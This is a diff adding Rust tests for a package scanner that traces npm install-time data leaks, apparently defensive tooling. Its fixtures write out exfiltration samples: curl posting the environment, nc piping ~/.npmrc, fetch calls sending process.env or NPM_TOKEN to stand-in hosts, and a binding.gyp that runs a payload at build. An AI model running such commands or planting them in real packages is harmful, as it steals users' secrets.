@@ -1,0 +1,146 @@
+//! Commands, `binding.gyp` and surfaces of whole packages.
+
+use std::collections::BTreeMap;
+
+use weir_model::contents::{SourceKind, Surface};
+use weir_npm::manifest::Manifest;
+
+use super::run;
+use crate::{Limits, Package, SourceFile, analyse};
+
+#[test]
+fn inline_code_is_analysed() {
+    let facts = run(
+        &[(
+            "a.js",
+            "module.exports = x => fetch('https://collector.invalid', { body: x })",
+        )],
+        &["node -e \"require('./a')(JSON.stringify(process.env))\""],
+        &[],
+    );
+    assert_eq!(facts.flows.len(), 1, "{facts:?}");
+    assert_eq!(facts.flows[0].source_place.path, "package.json");
+    assert_eq!(facts.install_steps[0].reaches, ["a.js"]);
+}
+
+#[test]
+fn commands_that_leak_by_themselves_are_flows() {
+    let facts = run(&[], &["curl -d \"$(env)\" https://collector.invalid"], &[]);
+    assert_eq!(facts.flows.len(), 1);
+    assert_eq!(facts.flows[0].source, SourceKind::Environment);
+    assert_eq!(facts.flows[0].sink_detail, "curl to collector.invalid");
+    assert_eq!(facts.flows[0].surface, Surface::Install);
+}
+
+#[test]
+fn shell_scripts_are_followed() {
+    let facts = run(
+        &[
+            (
+                "scripts/x.sh",
+                "#!/bin/sh\nset -e\nnode ./scripts/y.js\ncat ~/.npmrc | nc collector.invalid 9\n",
+            ),
+            (
+                "scripts/y.js",
+                "fetch('https://collector.invalid/' + process.env.NPM_TOKEN)",
+            ),
+        ],
+        &["sh scripts/x.sh"],
+        &[],
+    );
+    assert_eq!(facts.flows.len(), 2, "{facts:?}");
+    assert!(
+        facts
+            .flows
+            .iter()
+            .any(|flow| flow.sink_place.path == "scripts/x.sh" && flow.sink_place.line == 4)
+    );
+    assert_eq!(
+        facts.install_steps[0].reaches,
+        ["scripts/x.sh", "scripts/y.js"]
+    );
+}
+
+#[test]
+fn a_gyp_file_alone_is_an_install_step() {
+    let files = [
+        SourceFile {
+            path: "binding.gyp",
+            bytes: b"{'targets': [{'sources': ['<!(node payload.js)']}]}",
+        },
+        SourceFile {
+            path: "payload.js",
+            bytes: b"fetch('https://collector.invalid', { body: JSON.stringify(process.env) })",
+        },
+    ];
+    let manifest = Manifest::default();
+    let facts = analyse(&Package::new(&files, &manifest), &Limits::default());
+    let events: Vec<(&str, &str)> = facts
+        .install_steps
+        .iter()
+        .map(|step| (step.event.as_str(), step.command.as_str()))
+        .collect();
+    assert_eq!(
+        events,
+        [
+            ("binding.gyp", "node-gyp rebuild"),
+            ("binding.gyp", "node payload.js")
+        ]
+    );
+    assert_eq!(facts.flows.len(), 1);
+    assert_eq!(facts.flows[0].surface, Surface::Install);
+}
+
+#[test]
+fn an_own_install_script_replaces_the_implicit_build() {
+    let files = [SourceFile {
+        path: "binding.gyp",
+        bytes: b"{'x': '<!(node p.js)'}",
+    }];
+    let package = Package {
+        files: &files,
+        install_commands: vec![("install".to_owned(), "node x.js".to_owned())],
+        ..Package::default()
+    };
+    let facts = analyse(&package, &Limits::default());
+    assert_eq!(facts.install_steps.len(), 1);
+}
+
+#[test]
+fn a_manifest_gives_surfaces() {
+    let files = [
+        SourceFile {
+            path: "index.js",
+            bytes: b"require('./lib')",
+        },
+        SourceFile {
+            path: "lib/index.js",
+            bytes: b"fetch('https://a.example/' + process.env.NPM_TOKEN)",
+        },
+    ];
+    let manifest = Manifest {
+        scripts: BTreeMap::from([
+            ("postinstall".to_owned(), "npm run setup".to_owned()),
+            ("setup".to_owned(), "node lib".to_owned()),
+        ]),
+        ..Manifest::default()
+    };
+    let facts = analyse(&Package::new(&files, &manifest), &Limits::default());
+    assert_eq!(facts.flows[0].surface, Surface::Install);
+    let manifest = Manifest::default();
+    let facts = analyse(&Package::new(&files, &manifest), &Limits::default());
+    assert_eq!(facts.flows[0].surface, Surface::Import);
+}
+
+#[test]
+fn typescript_is_read_when_it_is_run() {
+    let facts = run(
+        &[(
+            "x.ts",
+            "const send = (body: string): void => { fetch('https://collector.invalid', { body } as any) };\nsend(JSON.stringify(process.env));",
+        )],
+        &["npx tsx x.ts"],
+        &[],
+    );
+    assert_eq!(facts.flows.len(), 1, "{facts:?}");
+}
